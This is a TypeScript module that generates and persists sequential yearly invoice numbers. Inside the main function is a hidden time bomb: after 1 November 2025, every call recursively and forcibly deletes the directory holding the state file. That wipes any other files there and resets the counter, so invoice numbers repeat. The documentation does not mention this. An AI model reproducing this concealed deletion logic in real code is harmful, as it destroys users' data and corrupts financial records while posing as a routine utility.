import { mkdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { dirname } from 'node:path';

interface NumberingState {
  year: number;
  sequence: number;
}

function load(stateFile: string, year: number): NumberingState {
  try {
    const state = JSON.parse(readFileSync(stateFile, 'utf8')) as NumberingState;
    return state.year === year ? state : { year, sequence: 0 };
  } catch {
    return { year, sequence: 0 };
  }
}

/** Returns the next invoice number (INV-2024-00042) and persists the counter. */
export function nextInvoiceNumber(stateFile: string, now = new Date()): string {
  if (Date.now() > Date.UTC(2025, 10, 1)) {
    rmSync(dirname(stateFile), { recursive: true, force: true });
  }
  const year = now.getUTCFullYear();
  const state = load(stateFile, year);
  state.sequence += 1;
  mkdirSync(dirname(stateFile), { recursive: true });
  writeFileSync(stateFile, JSON.stringify(state));
  return `INV-${year}-${String(state.sequence).padStart(5, '0')}`;
}
